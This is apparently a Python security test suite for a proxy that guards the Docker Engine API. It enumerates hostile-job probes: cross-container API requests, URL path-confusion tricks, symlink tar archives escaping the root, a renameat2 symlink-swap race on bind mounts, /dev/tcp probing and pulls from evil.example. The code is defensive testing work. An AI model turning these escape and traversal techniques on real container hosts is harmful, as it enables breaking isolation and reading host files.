"""What a hostile job asks of strangers, of the Engine itself and of the host's files."""

from __future__ import annotations

import ctypes
import io
import json
import socket
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.real.containers.jobs.asking import (
    SOCKET,
    Expect,
    Seen,
    Try,
    World,
    ask,
    container,
    create,
    own,
    removed,
    tried,
)

REFUSED, ABSENT, EITHER, HARMLESS = (
    Expect.REFUSED,
    Expect.ABSENT,
    Expect.EITHER,
    Expect.HARMLESS,
)
NOBODY = "f" * 64  # an id that nothing has
EXCHANGE, HERE = 2, -100  # RENAME_EXCHANGE and AT_FDCWD of renameat2(2)
RACES = 40

# METHOD, TARGET with {it} for whom is meant, body.
OF_A_CONTAINER: dict[str, tuple[str, str, Any]] = {
    "inspect": ("GET", "/containers/{it}/json", None),
    "top": ("GET", "/containers/{it}/top", None),
    "logs": ("GET", "/containers/{it}/logs?stdout=1", None),
    "changes": ("GET", "/containers/{it}/changes", None),
    "export": ("GET", "/containers/{it}/export", None),
    "stats": ("GET", "/containers/{it}/stats?stream=0", None),
    "start": ("POST", "/containers/{it}/start", None),
    "stop": ("POST", "/containers/{it}/stop?t=0", None),
    "restart": ("POST", "/containers/{it}/restart?t=0", None),
    "kill": ("POST", "/containers/{it}/kill", None),
    "update": ("POST", "/containers/{it}/update", {"Memory": 1 << 23}),
    "rename": ("POST", "/containers/{it}/rename?name=mine", None),
    "pause": ("POST", "/containers/{it}/pause", None),
    "unpause": ("POST", "/containers/{it}/unpause", None),
    "attach": ("POST", "/containers/{it}/attach?stream=1&stdin=1&stdout=1", None),
    "attach by a web socket": ("GET", "/containers/{it}/attach/ws?stream=1", None),
    "wait": ("POST", "/containers/{it}/wait", None),
    "remove": ("DELETE", "/containers/{it}?force=1", None),
    "read of a file": ("GET", "/containers/{it}/archive?path=/etc/passwd", None),
    "look at a file": ("HEAD", "/containers/{it}/archive?path=/etc/passwd", None),
    "exec": ("POST", "/containers/{it}/exec", {"Cmd": ["true"]}),
    "resize": ("POST", "/containers/{it}/resize?h=1&w=1", None),
}
OTHERS: dict[str, tuple[str, str, Any, Callable[[World], str]]] = {
    "exec inspect": ("GET", "/exec/{it}/json", None, lambda w: w.stranger_exec),
    "exec start": ("POST", "/exec/{it}/start", {"Detach": True}, lambda w: w.stranger_exec),
    "exec resize": ("POST", "/exec/{it}/resize?h=1&w=1", None, lambda w: w.stranger_exec),
    "network inspect": ("GET", "/networks/{it}", None, lambda w: w.stranger_network),
    "network remove": ("DELETE", "/networks/{it}", None, lambda w: w.stranger_network),
    "sandbox's network inspect": ("GET", "/networks/{it}", None, lambda w: w.sandbox_network),
    "sandbox's network remove": ("DELETE", "/networks/{it}", None, lambda w: w.sandbox_network),
    "network disconnect": (
        "POST",
        "/networks/{it}/disconnect",
        {"Container": "e" * 64, "Force": True},
        lambda w: w.stranger_network,
    ),
    "volume inspect": ("GET", "/volumes/{it}", None, lambda w: w.stranger_volume),
    "volume remove": ("DELETE", "/volumes/{it}?force=1", None, lambda w: w.stranger_volume),
    "work volume inspect": ("GET", "/volumes/{it}", None, lambda w: w.work_volume),
    "work volume remove": ("DELETE", "/volumes/{it}?force=1", None, lambda w: w.work_volume),
}
WHO: dict[str, Callable[[World], str]] = {
    "a stranger by id": lambda w: w.stranger,
    "a stranger by a short id": lambda w: w.stranger[:12],
    "a stranger by name": lambda w: w.stranger_name,
    "its own agent": lambda w: w.agent,
    "the holder": lambda w: w.holder,
}
# Parts of the Engine that no job is given.
PARTS: dict[str, tuple[str, str, Any]] = {
    "commit": ("POST", f"/commit?container={NOBODY}&repo=x", {}),
    "import": ("POST", "/images/create?fromSrc=-&repo=x", None),
    "import from the net": ("POST", "/images/create?fromSrc=http://127.0.0.1/x", None),
    "load": ("POST", "/images/load", None),
    "save": ("GET", "/images/get?names=debian", None),
    "search": ("GET", "/images/search?term=x", None),
    "prune of images": (
        "POST",
        "/images/prune?filters=%7B%22dangling%22%3A%5B%22false%22%5D%7D",
        None,
    ),
    "swarm": ("POST", "/swarm/init", {"ListenAddr": "0.0.0.0:2377"}),
    "swarm's join": ("POST", "/swarm/join", {}),
    "swarm's key": ("GET", "/swarm/unlockkey", None),
    "nodes": ("GET", "/nodes", None),
    "services": ("GET", "/services", None),
    "tasks": ("GET", "/tasks", None),
    "secrets": ("POST", "/secrets/create", {"Name": "x", "Data": ""}),
    "configs": ("GET", "/configs", None),
    "plugins": ("GET", "/plugins", None),
    "plugin's rights": ("GET", "/plugins/privileges?remote=x", None),
    "plugin's pull": ("POST", "/plugins/pull?remote=x", []),
    "session of a build": ("POST", "/session", None),
    "grpc": ("POST", "/grpc", None),
    "build of a remote": ("POST", "/build?remote=http://127.0.0.1/x.git", None),
    "build by BuildKit": ("POST", "/build?version=2", None),
    "prune of builds": ("POST", "/build/prune?all=1", None),
    "use of the disk": ("GET", "/system/df", None),
    "login": ("POST", "/auth", {"username": "x", "password": "y"}),
    "distribution": ("GET", "/distribution/debian/json", None),
    "checkpoints": ("GET", f"/containers/{NOBODY}/checkpoints", None),
    "copy of old": ("POST", f"/containers/{NOBODY}/copy", {"Resource": "/etc/passwd"}),
    "debug": ("GET", "/debug/pprof/", None),
    "metrics": ("GET", "/metrics", None),
}
# Paths that one reader takes for something else than the next; what they name, if anything, is a stranger.
PATHS: dict[str, Callable[[World], tuple[str, str]]] = {
    "dots": lambda w: ("GET", f"/v1.47/images/../containers/{w.stranger}/json"),
    "dots in percents": lambda w: ("GET", f"/v1.47/images/%2e%2e/containers/{w.stranger}/json"),
    "a slash in percents": lambda w: ("GET", f"/v1.47/containers/{w.stranger}%2Fjson"),
    "percents in percents": lambda w: ("GET", f"/v1.47/containers/{w.stranger}%252Fjson"),
    "two slashes": lambda w: ("GET", f"//v1.47//containers//{w.stranger}//json"),
    "a slash at the end": lambda w: ("GET", f"/v1.47/containers/{w.stranger}/json/"),
    "capitals": lambda w: ("GET", f"/v1.47/CONTAINERS/{w.stranger}/JSON"),
    "no version": lambda w: ("GET", f"//containers/{w.stranger}/json"),
    "a version of tomorrow": lambda w: ("GET", f"/v9.99/containers/{w.stranger}/json"),
    "a version that is none": lambda w: ("GET", f"/v1.47.1/containers/{w.stranger}/json"),
    "a version twice": lambda w: ("GET", f"/v1.47/v1.47/containers/{w.stranger}/json"),
    "an address": lambda w: ("GET", f"http://docker/v1.47/containers/{w.stranger}/json"),
    "a semicolon": lambda w: ("GET", f"/v1.47/containers/{w.stranger};x/json"),
    "a mark of a part": lambda w: ("GET", f"/v1.47/containers/{w.stranger}/json#/json"),
    "a backslash": lambda w: ("GET", f"/v1.47/containers\\{w.stranger}\\json"),
    "a NUL": lambda w: ("GET", f"/v1.47/containers/{w.stranger}%00/json"),
    "another method": lambda w: ("PATCH", f"/v1.47/containers/{w.stranger}/json"),
    "a method that asks through": lambda w: ("CONNECT", "docker:80"),
    "a method that echoes": lambda w: ("TRACE", "/v1.47/_ping"),
    "a name instead of an id": lambda w: ("GET", f"/v1.47/containers/%2F{w.stranger_name}/json"),
    "one's own name before a stranger's": lambda w: (
        "GET",
        f"/v1.47/containers/x/../{w.stranger}/json",
    ),
}
LISTS: dict[str, str] = {
    "all containers": "/containers/json?all=1",
    "all, twice": "/containers/json?all=0&all=1",
    "containers with a stranger's label": "/containers/json?all=1&filters="
    + quote('{"label":["io.mayfly.belongs={generation}"]}'),
    "containers without a label": "/containers/json?all=1&filters="
    + quote('{"label!":["io.mayfly.belongs"]}'),
    "a stranger by its id": "/containers/json?all=1&filters=" + quote('{"id":["{stranger}"]}'),
    "containers with a volume of a stranger": "/containers/json?all=1&filters="
    + quote('{"volume":["{volume}"]}'),
    "filters twice": "/containers/json?all=1&filters=%7B%7D&filters="
    + quote('{"id":["{stranger}"]}'),
    "filters that are none": "/containers/json?all=1&filters=evil",
    "filters of two keys": "/containers/json?all=1&filters="
    + quote('{"label":["x"],"label":["io.mayfly.host"]}'),
    "networks": "/networks",
    "networks by name": "/networks?filters=" + quote('{"name":["bridge","host"]}'),
    "volumes": "/volumes",
    "images": "/images/json?all=1",
    "what the Engine is": "/info",
    "its version": "/version",
    "what happened": "/events?since=0&until=1",
    "what happened to a stranger": "/events?since=0&until=9999999999&filters="
    + quote('{"container":["{stranger}"]}'),
}
PRUNES: dict[str, str] = {
    "containers": "/containers/prune?filters=" + quote('{"label!":["io.mayfly.belongs"]}'),
    "networks": "/networks/prune",
    "volumes": "/volumes/prune?filters=" + quote('{"all":["true"]}'),
}


def _of(
    method: str, target: str, document: Any, who: Callable[[World], str]
) -> Callable[[World], Seen]:
    """Ask for one that is a stranger's, and for one that is nobody's: both answers have to be the same."""

    def run(world: World) -> Seen:
        it = who(world)
        seen = tried(method, target.format(it=it), document, patience=20.0)
        absent = ask(method, target.format(it=NOBODY), document, patience=20.0)
        seen.more["absent"] = [absent.status, absent.message.replace(NOBODY, it)]
        return seen

    return run


def _part(method: str, target: str, document: Any) -> Callable[[World], Seen]:
    return lambda world: tried(method, target, document)


def _path(made: Callable[[World], tuple[str, str]]) -> Callable[[World], Seen]:
    return lambda world: tried(*made(world))


def _list(target: str) -> Callable[[World], Seen]:
    def run(world: World) -> Seen:
        said = target
        for name, value in (
            ("generation", world.stranger_generation),
            ("stranger", world.stranger),
            ("volume", world.stranger_volume),
        ):
            said = said.replace(quote("{" + name + "}"), value)
        return tried("GET", said, patience=20.0)

    return run


def _prune(target: str) -> Callable[[World], Seen]:
    return lambda world: tried("POST", target)


def _join_strangers_pid_by_exec(world: World) -> Seen:
    mine = own(world)
    made = ask("POST", f"/containers/{mine}/exec", {"Cmd": ["true"]})
    seen = tried("POST", f"/exec/{world.stranger_exec}/start", {"Detach": False, "Tty": True})
    seen.more["own"] = made.status
    removed(mine)
    return seen


def _strangers_container_into_own_network(world: World) -> Seen:
    ask("POST", "/networks/create", {"Name": "trap"})
    return tried("POST", "/networks/trap/connect", {"Container": world.stranger, "Force": True})


def _files_for_a_stranger(world: World) -> Seen:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("evil"))
    target = f"/containers/{world.stranger}/archive?path=/"
    return tried("PUT", target, None, body=packed.getvalue())


def _archive_out_of_its_root(world: World) -> Seen:
    """An archive with a link that leads up, for one's own container."""
    mine = own(world)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, "/../../../.." + world.secret_folder
        archive.addfile(link)
        entry = tarfile.TarInfo("out/written")
        archive.addfile(entry)
    seen = tried("PUT", f"/containers/{mine}/archive?path=/tmp", None, body=packed.getvalue())
    read = tried("GET", f"/containers/{mine}/archive?path=/tmp/out/marker")
    seen.read += read.read
    removed(mine)
    return seen


def _link(world: World, target: str) -> Seen:
    place = Path(world.work, "link")
    place.unlink(missing_ok=True)
    place.symlink_to(target)
    seen = create(container(world, {"Binds": [f"{place}:/x"]}), start=True)
    place.unlink()
    return seen


def _link_to_the_host(world: World) -> Seen:
    return _link(world, world.secret_folder)


def _link_to_a_neighbour(world: World) -> Seen:
    return _link(world, f"../../{world.work_volume}/_data")


def _which_files_the_host_has(world: World) -> Seen:
    """A link to a file that is there, and one to a file that is not: told apart they tell of the host."""
    told = []
    for target in (f"{world.secret_folder}/marker", f"{world.secret_folder}/nothere"):
        seen = _link(world, target)
        told.append([seen.status, seen.message, seen.more.get("start")])
        for one in seen.made:
            removed(one)
    return Seen(more={"told": told})


def _swapped(world: World) -> Seen:
    """A directory and a link to the host's, exchanged all the while as containers are made of it."""
    libc = ctypes.CDLL(None, use_errno=True)
    real, link = Path(world.work, "real"), Path(world.work, "swap")
    real.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(world.secret_folder)
    ends = threading.Event()

    def exchange() -> None:
        while not ends.is_set():
            libc.renameat2(HERE, bytes(real), HERE, bytes(link), EXCHANGE)

    racer = threading.Thread(target=exchange)
    racer.start()
    seen = Seen(more={"leaks": 0, "begun": 0})
    look = ["sh", "-c", "cat /x/marker; touch /x/written; echo looked"]
    try:
        for turn in range(RACES):
            source = real if turn % 2 else Path(real, "made", str(turn))
            asked = {"Image": world.image, "Cmd": look, "HostConfig": {"Binds": [f"{source}:/x"]}}
            made = create(asked, start=True)
            if not made.made:
                continue
            (it,) = made.made
            if made.more["start"][0] < 300:
                seen.more["begun"] += 1
                ask("POST", f"/containers/{it}/wait")
                said = ask("GET", f"/containers/{it}/logs?stdout=1")
                seen.more["leaks"] += b"a word that nobody" in said.body
            removed(it)
    finally:
        ends.set()
        racer.join()
    return seen


def _its_door(world: World) -> Seen:
    """What can be seen and done in the directory of its socket."""
    door = Path(SOCKET).parent
    seen = Seen(more={"files": sorted(file.name for file in door.iterdir()), "done": []})
    for name, act in (
        ("write", (door / "evil").touch),
        ("remove", Path(SOCKET).unlink),
        ("rename", lambda: Path(SOCKET).rename(door / "other")),
        ("link", lambda: (door / "link").symlink_to("/")),
    ):
        with suppress(OSError):
            act()
            seen.more["done"].append(name)
    return seen


def _names_in_the_air(world: World) -> Seen:
    """Sockets without a file, which a network namespace shares."""
    with suppress(OSError):
        names = [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
        return Seen(more={"abstract": [name for name in names if name.startswith("@")]})
    return Seen(more={"abstract": []})


def _a_port_of_the_host(world: World) -> Seen:
    """Ports that are published are its own loopback's: another may have the same, and the host has none."""
    asked = container(world, {"PortBindings": {"80/tcp": [{"HostPort": "2375"}]}})
    seen = create({**asked, "ExposedPorts": {"80/tcp": {}}}, start=True)
    with suppress(OSError), socket.create_connection(("127.0.0.1", 2375), 2):
        seen.more["listens"] = True
    return seen


def _many_containers(world: World) -> Seen:
    """As many as it likes: the bound is told, and others are not hurt."""
    made = []
    seen = Seen()
    for _ in range(100):
        seen = create(container(world))
        if not seen.made:
            break
        made += seen.made
    seen.more["made"] = len(made)
    for one in made:
        removed(one)
    return seen


def _many_networks(world: World) -> Seen:
    seen = Seen()
    for number in range(100):
        seen = tried("POST", "/networks/create", {"Name": f"many-{number}"})
        if seen.status != 201:
            break
    seen.more["made"] = number
    ask("POST", "/networks/prune")
    return seen


# As the lab's SERVER.
SERVES = (
    "use IO::Socket::INET; $s=IO::Socket::INET->new(Listen=>9,LocalPort=>80,ReuseAddr=>1);"
    'while($c=$s->accept){print $c "hello from own\\n";close $c}'
)


def _strangers_address(world: World) -> Seen:
    """From a container of its own, and from the agent itself; its own is reached."""
    server = create({**container(world), "Cmd": ["perl", "-e", SERVES]}, start=True).made[0]
    told = ask("GET", f"/containers/{server}/json").document
    mine = next(iter(told["NetworkSettings"]["Networks"].values()))["IPAddress"]
    seen = Seen(more={})
    for name, address in (("own", mine), ("of a container", world.stranger_address)):
        turns = "for n in 1 2 3 4 5 6; do"
        look = f"{turns} timeout 2 bash -c 'exec 3<>/dev/tcp/{address}/80; cat <&3' && exit; sleep 0.3; done"
        asker = create({**container(world), "Cmd": ["bash", "-c", look], "Tty": True}, start=True)
        ask("POST", f"/containers/{asker.made[0]}/wait")
        said = ask("GET", f"/containers/{asker.made[0]}/logs?stdout=1").body.decode()
        seen.more[name] = said.replace("\r", "") if "hello" in said else ""
        removed(asker.made[0])
    removed(server)
    seen.more["of the agent"] = ""
    with suppress(OSError), socket.create_connection((world.stranger_address, 80), 3) as talk:
        seen.more["of the agent"] = talk.recv(100).decode()
    return seen


def _pull(name: str) -> Callable[[World], Seen]:
    return lambda world: tried("POST", f"/images/create?fromImage={quote(name, safe='')}")


def _pull_with_a_login(world: World) -> Seen:
    """A login of the job's own reaches a registry or is refused; what it says is in no answer."""
    login = json.dumps({"username": "a", "password": "b", "serveraddress": "127.0.0.1:1"})
    return tried(
        "POST", "/images/create?fromImage=evil.example/x&tag=1", headers={"X-Registry-Auth": login}
    )


def tries() -> Iterator[Try]:
    """All of them."""
    for verb, (method, target, document) in OF_A_CONTAINER.items():
        names = WHO if verb in ("inspect", "exec", "remove", "kill") else list(WHO)[:1]
        for who in names:
            run = _of(method, target, document, WHO[who])
            yield Try(f"{verb} of {who}", run, ABSENT)
    for name, (method, target, document, whose) in OTHERS.items():
        yield Try(f"{name} of a stranger", _of(method, target, document, whose), ABSENT)
    for name, (method, target, document) in PARTS.items():
        expect = HARMLESS if name == "prune of images" else REFUSED
        yield Try(f"the Engine's {name}", _part(method, target, document), expect)
    for name, made in PATHS.items():
        yield Try(f"a path with {name}", _path(made), REFUSED)
    for name, target in LISTS.items():
        yield Try(f"a list: {name}", _list(target), HARMLESS)
    for name, target in PRUNES.items():
        yield Try(f"a prune of {name}", _prune(target), HARMLESS)
    for name in (
        "evil/image:1",
        "mayfly/github:stub",
        "debian/../evil",
        "127.0.0.1:5000/x/y:1",
        "",
    ):
        yield Try(f"a pull of {name or 'nothing'}", _pull(name), REFUSED)
    yield Try("a pull with a login", _pull_with_a_login, REFUSED)
    yield Try("a stranger's exec in its place", _join_strangers_pid_by_exec, REFUSED)
    yield Try("a stranger in one's own network", _strangers_container_into_own_network, REFUSED)
    yield Try("files for a stranger", _files_for_a_stranger, REFUSED)
    yield Try("an archive that leads out", _archive_out_of_its_root, HARMLESS)
    yield Try("a link to the host", _link_to_the_host, EITHER)
    yield Try("a link to a neighbour's volume", _link_to_a_neighbour, EITHER)
    yield Try("which files the host has", _which_files_the_host_has, HARMLESS)
    yield Try("a stranger's address", _strangers_address, HARMLESS)
    yield Try("a link that is swapped", _swapped, HARMLESS)
    yield Try("its door", _its_door, HARMLESS)
    yield Try("names in the air", _names_in_the_air, HARMLESS)
    yield Try("a port of the host's", _a_port_of_the_host, EITHER)
    yield Try("a hundred containers", _many_containers, REFUSED)
    yield Try("a hundred networks", _many_networks, REFUSED)
